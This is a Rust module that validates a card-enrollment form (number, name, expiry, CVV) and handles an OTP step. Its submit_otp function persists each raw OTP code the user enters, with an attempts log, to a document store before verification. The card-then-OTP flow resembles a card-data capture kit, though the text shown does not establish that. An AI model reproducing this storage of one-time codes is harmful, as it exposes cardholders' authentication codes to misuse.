//! # Enrollment API Module
//!
//! Orchestrates the card form and OTP steps: validators run against the
//! submitted fields, accepted submits produce exactly one document-store
//! write, and the OTP outcome comes from the verification collaborator.

use crate::{
    card::{
        format,
        validate::{self, CardNetwork},
    },
    consts, models, repo, services,
};
use chrono::{NaiveDate, Utc};
use log::info;
use serde::{Deserialize, Serialize};

/// Per-field error messages. Replaced wholesale on every submit; cleared
/// per-field by the keystroke endpoint.
#[derive(Debug, Default, Clone, PartialEq, Eq, Serialize)]
pub struct FieldErrors {
    pub number: Option<String>,
    pub name: Option<String>,
    pub expiry: Option<String>,
    pub cvv: Option<String>,
}

impl FieldErrors {
    pub fn is_empty(&self) -> bool {
        self.number.is_none() && self.name.is_none() && self.expiry.is_none() && self.cvv.is_none()
    }

    pub fn count(&self) -> usize {
        [&self.number, &self.name, &self.expiry, &self.cvv]
            .into_iter()
            .filter(|field| field.is_some())
            .count()
    }
}

/// Form fields addressable by the keystroke endpoint
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CardField {
    Number,
    Name,
    Expiry,
    Cvv,
}

/// Result of a card submit: either the record id the store settled on, or
/// the field errors that keep the user on the form step.
#[derive(Debug)]
pub enum CardSubmitOutcome {
    Accepted { record_id: String },
    Invalid(FieldErrors),
}

/// Runs every field validator against the submitted values.
///
/// The CVV length is checked against the network detected from the
/// submitted number, so an amex PAN demands a 4-digit code.
pub fn validate_card_details(
    details: &models::card::CardDetails,
    today: NaiveDate,
) -> FieldErrors {
    let mut errors = FieldErrors::default();

    let pan_digits = validate::digits_of(&details.number);
    if pan_digits.is_empty() {
        errors.number = Some("el número de tarjeta es obligatorio".into());
    } else if !(consts::CARD_NUMBER_MIN_DIGITS..=consts::CARD_NUMBER_MAX_DIGITS)
        .contains(&pan_digits.len())
    {
        errors.number = Some("el número de tarjeta no es correcto".into());
    } else if !validate::luhn_check(&pan_digits) {
        errors.number = Some("el número de tarjeta no es válido".into());
    }

    if details.name.trim().is_empty() {
        errors.name = Some("el nombre del titular es obligatorio".into());
    } else if details.name.trim().chars().count() < consts::HOLDER_NAME_MIN_CHARS {
        errors.name = Some("el nombre es demasiado corto".into());
    }

    if details.expiry.is_empty() {
        errors.expiry = Some("la fecha de expiración es obligatoria".into());
    } else if !validate::validate_expiry_at(&details.expiry, today) {
        errors.expiry = Some("la fecha de expiración no es válida o ya venció".into());
    }

    let network = CardNetwork::detect(&details.number);
    if details.cvv.is_empty() {
        errors.cvv = Some("el código de seguridad es obligatorio".into());
    } else if !validate::validate_cvv(&details.cvv, network) {
        errors.cvv = Some(match network {
            CardNetwork::Amex => "debe tener 4 dígitos".into(),
            _ => "debe tener 3 dígitos".into(),
        });
    }

    errors
}

/// Handles a card-form submit.
///
/// Validation failures produce [CardSubmitOutcome::Invalid] without side
/// effects. A valid form is persisted exactly once; a failed write bubbles
/// up as `Err` so the caller can surface the transport-failure state.
pub async fn submit_card(
    repo: &repo::ImplEnrollRepo,
    details: &models::card::CardDetails,
    record_id: Option<String>,
) -> anyhow::Result<CardSubmitOutcome> {
    let errors = validate_card_details(details, Utc::now().date_naive());
    if !errors.is_empty() {
        return Ok(CardSubmitOutcome::Invalid(errors));
    }

    let record = models::card::CardRecord::from_details(details, record_id, Utc::now());
    let record_id = repo.upsert_card_record(&record).await?;

    info!(
        "card record {record_id} stored, network: {}",
        record.card_network
    );

    Ok(CardSubmitOutcome::Accepted { record_id })
}

/// Handles an OTP submit.
///
/// The code lands in the bounded session log, the attempt is persisted
/// exactly once, and the verification collaborator decides the outcome.
pub async fn submit_otp(
    repo: &repo::ImplEnrollRepo,
    verifier: &services::ImplOtpVerifier,
    code: &str,
    attempts: &mut models::otp::OtpAttemptLog,
    record_id: Option<String>,
) -> anyhow::Result<models::otp::OtpOutcome> {
    attempts.record(code);

    repo.append_otp_record(&models::otp::OtpRecord {
        external_id: record_id,
        otp: code.to_string(),
        attempts: attempts.clone(),
        created_at: Utc::now(),
    })
    .await?;

    verifier.verify(code).await
}

/// Keystroke-time minimum-shape check used to clear a field error as soon
/// as the value looks plausible, without re-running full validation.
pub fn field_shape_ok(field: CardField, details: &models::card::CardDetails) -> bool {
    match field {
        CardField::Number => {
            validate::digits_of(&details.number).len() >= consts::CARD_NUMBER_MIN_DIGITS
        }
        CardField::Name => details.name.trim().chars().count() >= consts::HOLDER_NAME_MIN_CHARS,
        CardField::Expiry => validate::validate_expiry(&details.expiry),
        // re-evaluated against the currently detected network: typing more
        // PAN digits can flip the required CVV length
        CardField::Cvv => {
            validate::digits_of(&details.cvv).len()
                >= CardNetwork::detect(&details.number).cvv_length()
        }
    }
}

/// Applies the input mask for a single field while the user types.
pub fn apply_input_mask(field: CardField, value: &str) -> String {
    match field {
        CardField::Number => format::format_card_number(value),
        CardField::Expiry => format::format_expiry(value),
        CardField::Cvv => validate::digits_of(value).chars().take(4).collect(),
        CardField::Name => value.to_string(),
    }
}
